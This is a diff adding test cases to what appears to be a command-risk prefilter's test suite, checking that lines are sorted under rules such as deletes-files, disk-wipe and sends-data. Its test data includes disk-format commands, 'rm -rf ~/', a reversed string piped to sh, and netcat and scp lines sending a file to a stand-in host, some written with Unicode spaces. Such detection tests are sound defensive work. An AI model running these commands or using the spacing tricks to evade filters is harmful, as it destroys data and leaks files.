@@ -51,6 +51,25 @@ const WORD_STARTS: [string, string][] = [
   ["decode-to-shell", "echo hs.x | rev | sh"],
 ];
 
+/** Lines for the rules whose keys were narrowed to one per alternative of the pattern, Unicode spaces where it reads \\s. */
+const NARROWED: [string, string][] = [
+  ["deletes-files", "rm -f build.log"],
+  ["deletes-files", "os.remove(path)"],
+  ["deletes-files", "os.remove path"],
+  ["deletes-files", "fs.rmSync(dir)"],
+  ["deletes-files", "rmSync(dir, { recursive: true })"],
+  ["deletes-files", "os.unlink(p)"],
+  ["deletes-files", "shutil.rmtree(d)"],
+  ["deletes-files", "rimraf(d)"],
+  ["deletes-files", "Remove-Item x"],
+  ["disk-wipe", "format c: /q"],
+  ["disk-wipe", "FORMAT D:/Y"],
+  ["disk-wipe", "format e:\t/q"],
+  ["sends-data", "nc\u00a0x.example 9001 < k"],
+  ["sends-data", "scp\u2003k me@x.example:/tmp/"],
+  ["wipes-home-or-root", "rm\u3000-rf ~/"],
+];
+
 /** A small deterministic generator, so a failure can be replayed. */
 function random(seed: number): () => number {
   let s = seed >>> 0;
@@ -74,6 +93,13 @@ describe("the trust prefilter's keys", () => {
     for (const line of SENDS) {
       expect(matching(line), line).toContain("sends-data");
       expect(listed(line), line).toContain("sends-data");
+    }
+  });
+
+  it("send a line of every alternative of the narrowed rules to its rule, Unicode spaces read as spaces", () => {
+    for (const [id, line] of NARROWED) {
+      expect(matching(line), line).toContain(id);
+      expect(listed(line), line).toContain(id);
     }
   });
 
